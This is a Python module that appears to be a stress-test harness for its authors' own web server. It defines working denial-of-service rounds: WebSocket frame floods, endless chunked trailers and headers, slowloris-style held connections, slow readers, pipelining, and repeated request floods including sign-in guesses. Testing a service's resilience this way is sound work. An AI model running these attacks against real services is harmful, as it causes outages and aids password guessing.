"""The attacks: each is what one client does again and again, and how many of them there are."""

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AbstractAsyncContextManager, AsyncExitStack, asynccontextmanager, suppress
from dataclasses import dataclass
from typing import Any, Final

from attack.target import READ_BYTES, Line, Target

PAUSE_SECONDS: Final = 0.05  # before one who was hung up on comes again
ROUNDS: Final = 10_000  # that one client makes at most
BURST: Final = 1 << 17  # bytes that are written before the server's answers are waited for
MASK: Final = b"\x80\x00\x00\x00\x00"  # of a frame without data: masked by nothing
PARTS: Final = 200_000  # of a dotted key
Round = Callable[[Target], Awaitable[None]]


@dataclass(frozen=True)
class Attack:
    """What one client does until it is hung up on, and how many clients do so at once."""

    round: Round
    clients: int = 2


@asynccontextmanager
async def reading(line: Line) -> AsyncIterator[None]:
    """Read what comes and forget it, until the server hangs up or the block ends."""

    async def read() -> None:
        with suppress(OSError):
            while await line[0].read(READ_BYTES):
                pass
        line[1].transport.abort()  # so that writing ends too

    task = asyncio.create_task(read())
    try:
        yield
    finally:
        task.cancel()


async def flood(opened: AbstractAsyncContextManager[Line], data: bytes, begin: bytes = b"") -> None:
    """Write the same again and again, as fast as it is taken."""
    async with opened as line, reading(line):
        line[1].write(begin)
        many = data * max(1, BURST // len(data))
        while not line[1].transport.is_closing():
            line[1].write(many)
            await line[1].drain()


def frames(first: int, begin: bytes = b"") -> Round:
    """Return the round of a client that sends empty frames of a kind."""

    async def send(target: Target) -> None:
        await flood(target.socket(), bytes([first]) + MASK, begin)

    return send


async def trailer(target: Target) -> None:
    """Send a body in chunks whose trailer has no end."""
    head = target.head(
        "PUT /api/me", "Transfer-Encoding: chunked", "Content-Type: application/json"
    )
    await flood(target.line(), b"a" * 1000, head + b"2\r\n{}\r\n0\r\nX: ")


async def extension(target: Target) -> None:
    """Send a chunk whose extension has no end."""
    head = target.head(
        "PUT /api/me", "Transfer-Encoding: chunked", "Content-Type: application/json"
    )
    await flood(target.line(), b"a" * 1000, head + b"2;")


async def pipeline(target: Target) -> None:
    """Ask for the page again and again, without waiting for answers."""
    await flood(target.line(), target.head("GET /"))


async def large_head(target: Target) -> None:
    """Send lines of a head without end."""
    await flood(target.line(), b"X: y\r\n", target.head("GET /")[:-2])


async def hold(target: Target, begin: bytes, again: bytes, small: bool = False) -> None:
    """Open as many connections as there are, and send each a little now and then."""
    async with AsyncExitStack() as stack:
        lines: list[Line] = []
        with suppress(OSError):
            for _ in range(HELD):
                lines.append(await stack.enter_async_context(target.line(small)))
                lines[-1][1].write(begin)
        while True:
            for _, writer in lines:
                if not writer.is_closing():
                    writer.write(again)
            await asyncio.sleep(1)


HELD: Final = 1000


async def idle(target: Target) -> None:
    """Hold connections with an empty line now and then."""
    await hold(target, b"", b"\r\n")


async def slow_heads(target: Target) -> None:
    """Hold connections with a head that comes letter by letter."""
    await hold(target, b"GET / HTTP/1.1\r\nX: ", b"y")


async def slow_readers(target: Target) -> None:
    """Hold connections that ask for much and read nothing."""
    await hold(target, target.head("GET /api/openapi.json") * 60, b"", small=True)


def asking(request: Callable[[Target], bytes]) -> Round:
    """Return the round of a client that asks the same again and again, one after the other."""

    async def ask(target: Target) -> None:
        sent = request(target)
        async with target.line() as (reader, writer):
            while True:
                writer.write(sent)
                head = (await reader.readuntil(b"\r\n\r\n")).lower()
                _, _, told = head.partition(b"\r\ncontent-length: ")
                await reader.readexactly(int(told.partition(b"\r\n")[0] or 0))

    return ask


def missing(target: Target) -> bytes:
    """Return a request for nothing."""
    return target.head("GET /api/nothing")


def table(target: Target) -> bytes:
    """Return a request for the whole story of a table, which costs much."""
    return target.head(f"GET /api/tables/{target.table}/story?seat=spectator")


def box(target: Target) -> bytes:
    """Return a box of one key with very many parts."""
    text = ".".join(["a"] * PARTS) + " = 1"
    return target.request("POST /api/games/khronos/boxes/check", {"text": text, "whole": True})


def guess(target: Target) -> bytes:
    """Return a try to sign in."""
    return target.request("POST /api/session", {"login": "somebody", "password": "a wrong one"})


ATTACKS: Final[dict[str, Attack]] = {
    "pings": Attack(frames(0x89)),
    "pongs": Attack(frames(0x8A)),
    "empty texts": Attack(frames(0x81)),
    "continuations": Attack(frames(0x00, b"\x01\x81\x00\x00\x00\x00x")),
    "endless trailer": Attack(trailer),
    "endless extension": Attack(extension),
    "endless head": Attack(large_head),
    "pipelining": Attack(pipeline),
    "idle connections": Attack(idle, 1),
    "slow heads": Attack(slow_heads, 1),
    "slow readers": Attack(slow_readers, 1),
    "404s": Attack(asking(missing), 20),
    "429s": Attack(asking(table), 20),
    "sign-in guesses": Attack(asking(guess), 10),
    "boxes": Attack(asking(box), 6),
}


async def attack(name: str, target: Target, seconds: float) -> None:
    """Attack for a while."""
    attack = ATTACKS[name]
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            clients = [repeat(attack.round, target) for _ in range(attack.clients)]
            await asyncio.gather(*clients)


async def repeat(round: Round, target: Any) -> None:
    """Be one client, that comes again whenever it is hung up on."""
    for _ in range(ROUNDS):
        with suppress(OSError, EOFError, asyncio.LimitOverrunError):
            await round(target)
        await asyncio.sleep(PAUSE_SECONDS)
